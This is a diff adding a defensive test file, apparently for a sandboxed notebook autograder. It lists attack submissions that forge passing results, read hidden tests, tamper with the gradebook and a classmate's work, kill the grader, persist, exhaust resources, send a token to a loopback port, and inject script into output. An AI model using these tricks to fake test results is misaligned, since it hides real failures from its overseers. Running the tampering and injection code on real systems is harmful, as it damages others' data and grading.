@@ -1,0 +1,619 @@
+# The hostile bank: ways to steal hidden tests, forge a result, tamper with the gradebook or a neighbour, exhaust the
+# machine, reach the network or outlive the submission. Each entry stands in the answer cell of `double` of the small lab
+# in `lab.ipynb`, with a wrong `double` behind it unless it has one. None may earn a point for `double`.
+#
+# An entry's line has: what it tries to do; a title; `loses` with tests of the other exercises that it may cost itself.
+# COURSE, PORT and TOKEN are known to the attacker: the course's folder, a listener on loopback, a word to leave behind.
+# Each is bounded in time, memory and number, and attacks only what the test made.
+
+# %% forge | an AST transformer drops every assert
+import ast
+class Drop(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.copy_location(ast.Pass(), node)
+get_ipython().ast_transformers.append(Drop())
+
+# %% forge | an input transformer empties test cells | loses quad_values
+get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\n"] if any("double" in l for l in lines) else lines)
+
+# %% forge | run_cell is replaced | loses quad_values
+shell = get_ipython()
+old = shell.run_cell
+shell.run_cell = lambda source, *a, **k: old("pass" if "double" in source else source, *a, **k)
+
+# %% forge | the kernel's execute is replaced | loses area_values quad_values
+kernel = get_ipython().kernel
+async def nothing(*a, **k):
+    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
+kernel.do_execute = nothing
+
+# %% forge | run_code swallows errors | loses area_values quad_values
+get_ipython().__class__.run_code = lambda self, *a, **k: False
+
+# %% forge | a custom exception handler shows nothing
+get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
+
+# %% forge | showtraceback does nothing
+get_ipython().showtraceback = lambda *a, **k: None
+get_ipython()._showtraceback = lambda *a, **k: None
+
+# %% forge | a hook clears the output of every cell
+from IPython.display import clear_output
+get_ipython().events.register("post_execute", clear_output)
+
+# %% forge | a hook publishes a result of two points
+shell = get_ipython()
+def publish(*_):
+    shell.kernel.session.send(shell.kernel.iopub_socket, "execute_result",
+        {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}, parent=shell.kernel.get_parent())
+shell.events.register("pre_execute", publish)
+
+# %% forge | errors are published as text
+session = get_ipython().kernel.session
+old_send = session.send
+def send(socket, kind, *a, **k):
+    return old_send(socket, "stream" if kind == "error" else kind, *a, **k)
+session.send = send
+
+# %% forge | numpy says that all is close
+import numpy
+numpy.allclose = numpy.array_equal = lambda *a, **k: True
+numpy.testing.assert_allclose = lambda *a, **k: None
+
+# %% forge | the name np is taken
+class Yes:
+    def __getattr__(self, name): return lambda *a, **k: True
+np = Yes()
+
+# %% forge | builtins are replaced | loses area_values quad_values
+import builtins
+builtins.abs = lambda x: 0
+builtins.isinstance = lambda *a: True
+builtins.AssertionError = Warning
+
+# %% forge | the answer equals everything
+class Same:
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __sub__(self, other): return 0
+    __rsub__ = __sub__
+    def __array__(self, *a, **k): raise TypeError
+    def __bool__(self): return True
+def double(x):
+    return Same()
+
+# %% forge | a float that equals everything
+class Same(float):
+    def __eq__(self, other): return True
+    __hash__ = float.__hash__
+def double(x):
+    return Same(0)
+
+# %% forge | an int that equals everything
+class Same(int):
+    def __eq__(self, other): return True
+    __hash__ = int.__hash__
+def double(x):
+    return Same(0)
+
+# %% forge | an array that equals everything
+import numpy as np
+class Same(np.ndarray):
+    def __array_function__(self, *a, **k): return True
+    def __array_ufunc__(self, *a, **k): return np.True_
+    def __eq__(self, other): return True
+def double(x):
+    return np.zeros(3).view(Same)
+
+# %% forge | unpickling the answer runs code
+class Bomb:
+    def __reduce__(self): return (exec, ("import builtins; builtins.double = lambda x: 2 * x",))
+def double(x):
+    return Bomb()
+
+# %% forge | an array of objects
+import numpy as np
+class Same:
+    def __eq__(self, other): return True
+def double(x):
+    out = np.empty(3, dtype=object)
+    out[:] = [Same()] * 3
+    return out
+
+# %% forge | the process ends well in the middle of a test | loses area_values quad_values
+import os
+def double(x):
+    os._exit(0)
+
+# %% forge | SystemExit in a test
+def double(x):
+    raise SystemExit(0)
+
+# %% forge | KeyboardInterrupt in a test
+def double(x):
+    raise KeyboardInterrupt
+
+# %% forge | an exception that is no Exception
+class Out(BaseException):
+    pass
+def double(x):
+    raise Out
+
+# %% forge | the argument is changed and returned
+def double(x):
+    try:
+        x *= 0
+    except TypeError:
+        pass
+    return x
+
+# %% forge | the name assert-like helper is taken
+check = lambda *a, **k: True
+given = __import__("contextlib").nullcontext
+
+# %% steal | the running test is read from the stack
+import re, sys, linecache
+def double(x):
+    frame = sys._getframe(1)
+    while frame:
+        source = "".join(linecache.getlines(frame.f_code.co_filename))
+        found = re.search(r"double\(%r\) == (\S+)" % x, source) if not hasattr(x, "shape") else None
+        if found:
+            return eval(found[1])
+        frame = frame.f_back
+    return 0
+
+# %% steal | the running test is read from its bytecode
+import sys
+def double(x):
+    for constant in sys._getframe(1).f_code.co_consts:
+        if isinstance(constant, int) and constant > 5:
+            return constant
+    return 0
+
+# %% steal | the running test is read from the request
+import re
+def double(x):
+    code = get_ipython().kernel.get_parent()["content"].get("code", "")
+    found = re.search(r"double\(%r\) == (\S+)" % x, code) if not hasattr(x, "shape") else None
+    return eval(found[1]) if found else 0
+
+# %% steal | the history of input is read
+def double(x):
+    import re
+    for code in reversed(get_ipython().user_ns.get("In", [])):
+        found = re.search(r"double\(%r\) == (\S+)" % x, code) if not hasattr(x, "shape") else None
+        if found:
+            return eval(found[1])
+    return 0
+
+# %% steal | the memory is searched for tests
+import gc
+def double(x):
+    for thing in gc.get_objects():
+        if type(thing) is dict and "double_val" + "ues" in str(thing.get("grade_id", "")):
+            return 2 * x
+        if type(thing) is list and any(type(s) is str and "double(3" + ") == " in s for s in thing[:50]):
+            return 2 * x
+    return 0
+
+# %% steal | source is read from the disk
+import pathlib
+found = [p for p in pathlib.Path("COURSE/source").rglob("*.ipynb") if "double(3)" in p.read_text()]
+def double(x):
+    return 2 * x if found else 0
+
+# %% steal | the restored notebook is read from the disk
+import pathlib
+places = [pathlib.Path.cwd(), *pathlib.Path("COURSE/autograded").rglob("*")]
+found = [f for p in places if p.is_dir() for f in p.glob("*.ipynb") if "double(3)" in f.read_text()]
+def double(x):
+    return 2 * x if found else 0
+
+# %% steal | the gradebook is read
+import sqlite3
+rows = []
+try:
+    rows = sqlite3.connect("file:COURSE/gradebook.db?mode=ro", uri=True).execute(
+        "select source from source_cell where source like '%double(3)%'").fetchall()
+except sqlite3.Error:
+    pass
+def double(x):
+    return 2 * x if rows else 0
+
+# %% steal | the process of nbgrader is looked at
+import glob, os
+found = []
+for place in glob.glob("/proc/[0-9]*/cwd"):
+    try:
+        if int(place.split("/")[2]) != os.getpid() and os.readlink(place).startswith("COURSE"):
+            found.append(place)
+    except OSError:
+        pass
+def double(x):
+    return 2 * x if found else 0
+
+# %% steal | a neighbour's answer is copied
+import json, pathlib
+for path in pathlib.Path("COURSE/submitted").glob("*neighbour*/*/*.ipynb"):
+    for cell in json.loads(path.read_text())["cells"]:
+        source = "".join(cell["source"])
+        if source.startswith("def double"):
+            exec(source)
+double = globals().get("double", lambda x: 0)
+
+# %% steal | the temporary folders are searched
+import pathlib, tempfile
+found = []
+for path in pathlib.Path("/tmp").glob("examiner-*/**/*"):
+    try:
+        if path.is_file() and b"double(3)" in path.read_bytes():
+            found.append(path)
+    except OSError:
+        pass
+def double(x):
+    return 2 * x if found else 0
+
+# %% steal | a kernel's connection file opens the other kernel
+import glob, os
+files = [f for folder in ("/tmp", os.path.expanduser("~/.local/share/jupyter/runtime"), "COURSE")
+         for f in glob.glob(folder + "/**/kernel*.json", recursive=True)]
+own = get_ipython().config.get("IPKernelApp", {}).get("connection_file", "")
+from jupyter_client import BlockingKernelClient
+for file in [f for f in files if os.path.basename(f) != os.path.basename(own)][:5]:
+    try:
+        client = BlockingKernelClient(connection_file=file)
+        client.load_connection_file()
+        client.start_channels()
+        client.execute("import builtins; builtins.double = lambda x: 2 * x", reply=True, timeout=2)
+    except Exception:
+        pass
+
+# %% tamper | a trigger in the gradebook raises every grade
+import sqlite3
+try:
+    with sqlite3.connect("COURSE/gradebook.db", timeout=1) as db:
+        db.execute("create trigger TOKEN after update on grade begin update grade set manual_score = 50 "
+                   "where id = new.id; end")
+except sqlite3.Error:
+    pass
+
+# %% tamper | the gradebook is overwritten
+try:
+    with open("COURSE/gradebook.db", "r+b") as file:
+        file.write(b"TOKEN")
+except OSError:
+    pass
+
+# %% tamper | a neighbour's submission is emptied
+import pathlib
+try:
+    for path in pathlib.Path("COURSE/submitted").glob("zz_neighbour/*/*.ipynb"):
+        path.write_text("{}")
+except OSError:
+    pass
+
+# %% tamper | the instructor's tests are removed
+import pathlib
+try:
+    for path in pathlib.Path("COURSE/source").rglob("*.ipynb"):
+        path.write_text(path.read_text().replace("assert", "0 and"))
+except OSError:
+    pass
+
+# %% tamper | the course's configuration is changed
+try:
+    with open("COURSE/nbgrader_config.py", "a") as file:
+        file.write("\n# TOKEN\n")
+except OSError:
+    pass
+
+# %% tamper | the restored notebook is changed while it is graded
+import pathlib
+try:
+    for path in pathlib.Path("COURSE/autograded").rglob("*.ipynb"):
+        path.chmod(0o644)
+        path.write_text("{}")
+except OSError:
+    pass
+
+# %% tamper | files with the names of nbgrader's own are left behind
+import pathlib
+for name in ("timestamp.txt", "hostile.ipynb", "nbgrader_config.py"):
+    try:
+        pathlib.Path(name).write_text("TOKEN")
+    except OSError:
+        pass
+
+# %% tamper | a link to the gradebook is left behind
+import os
+for target in ("COURSE/gradebook.db", "/etc/passwd"):
+    try:
+        os.symlink(target, os.path.basename(target))
+    except OSError:
+        pass
+
+# %% tamper | the process of nbgrader is killed
+import os, signal
+try:
+    if os.getppid() > 1:
+        os.kill(os.getppid(), signal.SIGTERM)
+except OSError:
+    pass
+
+# %% tamper | a debugger is put on the process of nbgrader
+import ctypes, os
+libc = ctypes.CDLL(None)
+if os.getppid() > 1 and libc.ptrace(16, os.getppid(), 0, 0) == 0:
+    libc.ptrace(17, os.getppid(), 0, 0)
+    double = lambda x: 2 * x
+
+# %% outlive | a process changes the grades later
+import subprocess, sys
+code = ("import time, pathlib\n"
+        "for _ in range(40):\n"
+        "    time.sleep(.25)\n"
+        "    for p in pathlib.Path('COURSE/autograded').glob('*_neighbour'):\n"
+        "        (p / 'TOKEN').write_text('x')\n")
+try:
+    subprocess.Popen([sys.executable, "-c", code, "TOKEN"], start_new_session=True)
+except OSError:
+    pass
+
+# %% outlive | a forked child goes on
+import os, time
+try:
+    if os.fork() == 0:
+        os.setsid()
+        for _ in range(40):
+            time.sleep(0.25)
+            open("/tmp/TOKEN", "w").close()
+        os._exit(0)
+except OSError:
+    pass
+
+# %% outlive | a thread and an exit handler go on
+import atexit, threading, time
+def late():
+    time.sleep(3)
+    open("/tmp/TOKEN", "w").close()
+atexit.register(late)
+threading.Thread(target=late).start()
+
+# %% outlive | a start-up file for later kernels
+import os, pathlib
+for folder in ("~/.ipython/profile_default/startup", "~/.local/lib/python3.11/site-packages"):
+    place = pathlib.Path(os.path.expanduser(folder))
+    try:
+        place.mkdir(parents=True, exist_ok=True)
+        (place / "usercustomize.py").write_text("TOKEN = 1")
+        (place / "00.py").write_text("TOKEN = 1")
+    except OSError:
+        pass
+
+# %% outlive | a package numpy for later submissions
+import pathlib
+for folder in (".", "..", "COURSE", "COURSE/autograded"):
+    try:
+        pathlib.Path(folder, "numpy").mkdir(exist_ok=True)
+        pathlib.Path(folder, "numpy", "__init__.py").write_text("TOKEN = 1")
+    except OSError:
+        pass
+
+# %% outlive | files in shared folders
+for name in ("/tmp/TOKEN", "/dev/shm/TOKEN", "/var/tmp/TOKEN"):
+    try:
+        open(name, "w").close()
+    except OSError:
+        pass
+
+# %% exhaust | memory in one piece
+import numpy as np
+try:
+    big = np.ones(400_000_000)
+except MemoryError:
+    big = None
+
+# %% exhaust | memory in many pieces
+pieces = []
+try:
+    for _ in range(300):
+        pieces.append(bytearray(10_000_000))
+except MemoryError:
+    pass
+pieces = None
+
+# %% exhaust | the disk
+try:
+    with open("big", "wb") as file:
+        for _ in range(400):
+            file.write(bytes(1_000_000))
+except OSError:
+    pass
+
+# %% exhaust | the number of files
+try:
+    for i in range(12_000):
+        open(f"f{i}", "w").close()
+except OSError:
+    pass
+
+# %% exhaust | processes
+import os, time
+children = []
+try:
+    for _ in range(100):
+        pid = os.fork()
+        if pid == 0:
+            time.sleep(5)
+            os._exit(0)
+        children.append(pid)
+except OSError:
+    pass
+
+# %% exhaust | threads
+import threading, time
+try:
+    for _ in range(300):
+        threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
+except RuntimeError:
+    pass
+
+# %% exhaust | output without end
+for _ in range(3000):
+    print("x" * 10_000)
+
+# %% exhaust | displays without end
+from IPython.display import display
+for i in range(5000):
+    display(i)
+
+# %% exhaust | output while a test runs
+def double(x):
+    print("y" * 50_000_000)
+    return 0
+
+# %% exhaust | a loop that never ends
+def double(x):
+    while True:
+        pass
+
+# %% exhaust | a loop that ignores interrupts | loses area_values quad_values
+import signal
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+def double(x):
+    while True:
+        pass
+
+# %% exhaust | a sleep in the cell
+import time
+time.sleep(60)
+
+# %% exhaust | a crash in the cell | loses area_values quad_values
+import ctypes
+ctypes.string_at(0)
+
+# %% exhaust | a recursion without end
+import sys
+sys.setrecursionlimit(50_000)
+def double(x):
+    return double(x)
+
+# %% wire | a value nested ten thousand deep
+def double(x):
+    value = []
+    for _ in range(10_000):
+        value = [value]
+    return value
+
+# %% wire | a value that holds itself
+def double(x):
+    value = []
+    value.append(value)
+    return value
+
+# %% wire | a huge array
+import numpy as np
+def double(x):
+    return np.zeros(40_000_000)
+
+# %% wire | a huge integer
+def double(x):
+    return 1 << 10_000_000
+
+# %% wire | the sender of values is replaced | loses area_values quad_values
+import sys
+module = sys.modules.get("examiner.student")
+if module:
+    class Text:
+        def __repr__(self): return "AAAA" * 1000
+    module.answer = lambda text: Text()
+
+# %% wire | handles that were never given out | loses area_values quad_values
+import base64, sys
+module = sys.modules.get("examiner.student")
+if module:
+    from examiner.wire import Ref
+    module.refer = lambda obj: Ref(10**6, "function", "double", True)
+
+# %% wire | an old reply is sent again | loses area_values quad_values
+import sys
+module = sys.modules.get("examiner.student")
+if module:
+    old, kept = module.answer, []
+    def answer(text):
+        kept.append(old(text))
+        return kept[0]
+    module.answer = answer
+
+# %% wire | every reply comes twice
+session = get_ipython().kernel.session
+old_send = session.send
+def twice(*a, **k):
+    try:
+        old_send(*a, **k)
+    except Exception:
+        pass
+    return old_send(*a, **k)
+session.send = twice
+
+# %% wire | no reply ever comes | loses area_values quad_values
+import sys, time
+module = sys.modules.get("examiner.student")
+if module:
+    module.answer = lambda text: time.sleep(100)
+
+# %% wire | the reply names the judge's own exception
+import sys
+module = sys.modules.get("examiner.student")
+if module:
+    module.describe = lambda error: {"type": "SystemExit", "name": "x", "args": [0], "traceback": ""}
+def double(x):
+    raise ValueError
+
+# %% wire | types lie about their names
+class int(int):
+    __module__ = "builtins"
+    def __eq__(self, other): return True
+    __hash__ = None
+def double(x):
+    return int(0)
+
+# %% network | a connection out
+import socket
+try:
+    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as line:
+        line.sendall(b"TOKEN")
+except OSError:
+    pass
+
+# %% network | a datagram out
+import socket
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"TOKEN", ("127.0.0.1", PORT))
+except OSError:
+    pass
+
+# %% network | a socket in the file system
+import socket
+try:
+    line = socket.socket(socket.AF_UNIX)
+    line.connect("COURSE/listener")
+    line.sendall(b"TOKEN")
+except OSError:
+    pass
+
+# %% inject | a script in an output
+from IPython.display import HTML, display
+display(HTML("<script>document.title='TOKEN'</script><img src=x onerror=\"document.title='TOKEN'\">"))
+
+# %% inject | a script as JavaScript and as a drawing
+from IPython.display import Javascript, SVG, display
+display(Javascript("document.title='TOKEN'"))
+display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='TOKEN'\"></svg>"}, raw=True)
+
+# %% inject | a script in an error
+class E(Exception):
+    def _render_traceback_(self): return ["<script>document.title='TOKEN'</script>", "\x1b[31m<img src=x onerror=\"document.title='TOKEN'\">"]
+def double(x):
+    raise E("<script>document.title='TOKEN'</script>")
